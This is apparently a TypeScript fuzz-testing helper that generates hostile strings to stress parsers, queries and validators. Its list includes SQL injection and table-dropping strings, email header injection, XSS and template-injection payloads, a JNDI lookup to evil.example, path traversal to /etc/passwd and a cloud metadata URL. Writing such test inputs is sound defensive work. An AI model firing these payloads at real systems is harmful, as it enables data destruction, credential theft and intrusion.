import type { Random } from '../../random.ts';

/** Texts that broke somebody's parser, query, page or header before. */
const texts = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  'a\udc00',
  '\ufeff',
  '\ufffd',
  '\u202egpj.exe',
  '\u2066a\u2069',
  '\u200b',
  '\u2028',
  'ﬃ',
  'İ',
  'ß',
  '\u1e9b\u0323',
  '👩‍👩‍👧‍👦',
  '\u{e0001}',
  '\u{10ffff}',
  '-0',
  '0x10',
  '1e400',
  'NaN',
  'Infinity',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  "' OR 1=1 --",
  "'; DROP TABLE users; --",
  "\\'; select pg_sleep(9); --",
  '$1',
  '%',
  '_',
  '\\',
  '%%%_%\\_\\%',
  '\r\nBcc: eve@evil.example',
  '\r\n\r\n<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("return 1")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on template languages
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '..%2f..%2fetc%2fpasswd',
  'http://169.254.169.254/latest/meta-data/',
  'javascript:alert(1)',
  'file:///etc/passwd',
  '(a+)+$',
  'a@b@c.example',
  'ada@example.com\0@evil.example',
  'ada@example.com,eve@evil.example',
  '"ada eve"@example.com',
  'ada@[127.0.0.1]',
  'ada@xn--80ak6aa92e.com',
  'Ada@EXAMPLE.com',
  '+000000000000000000000000000',
  '٠١٢٣٤٥',
  '000000',
  '00000000-0000-0000-0000-000000000000',
  'FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF',
  '0000-01-01T00:00:00Z',
  '9999-12-31T23:59:59.999999999Z',
  '2026-02-30T00:00:00Z',
  '2026-11-24T23:59:60Z',
  '+275760-09-13T00:00:00.000Z',
  '-271821-04-20T00:00:00.000Z',
  '2026-11-24T00:00:00+23:59',
  'eyJhbGciOiJub25lIn0.e30.',
  'a.b.c',
  'W10',
  'bnVsbA',
  'en-x-y-z',
  'i-klingon',
] as const;

export function hostileText(random: Random): string {
  switch (random.int(0, 7)) {
    case 0:
      return longText(random);
    case 1:
      return `${random.pick(texts)}${random.pick(texts)}`;
    case 2:
      return Array.from({ length: random.int(1, 12) }, () => String.fromCodePoint(anyCodePoint(random))).join('');
    default:
      return random.pick(texts);
  }
}

/** Runs whose length, or whose length after a step of normalisation, is what hurts. */
function longText(random: Random): string {
  const unit = random.pick(['a', '\u0301', '\u0344', 'ﷺ', '👾', '%', 'a.', ' ', '\0', '9', '-a', '@']);
  const length = random.pick([33, 36, 64, 65, 127, 128, 129, 200, 201, 254, 255, 256, 257, 512, 513, 1024, 1025, 5000]);
  return unit.repeat(length);
}

const anyCodePoint = (random: Random) =>
  random.pick([random.int(0, 0x7f), random.int(0, 0xffff), random.int(0, 0x10ffff)]);
